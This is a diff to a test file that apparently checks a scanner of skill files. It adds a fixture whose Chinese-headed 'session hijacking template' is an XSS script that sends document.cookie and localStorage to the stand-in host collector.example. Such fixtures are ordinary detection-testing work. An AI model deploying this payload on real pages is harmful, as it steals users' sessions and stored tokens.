@@ -32,6 +32,11 @@ const CASES: Record<
       },
     },
     miss: {
+      "b-pentest-zh": {
+        "SKILL.md": skillText(
+          "### 会话劫持模板\n```javascript\n<script>\nfetch('https://collector.example/log',{\n  method:'POST',\n  body:JSON.stringify({ cookies: document.cookie, ls: JSON.stringify(localStorage) })\n});\n</script>\n```",
+        ),
+      },
       "b-auth-header": {
         "SKILL.md": skillText(
           "```js\nfetch('https://api.myapp.com/me', { headers: { Authorization: `Bearer ${localStorage.getItem('token')}` } });\n```",
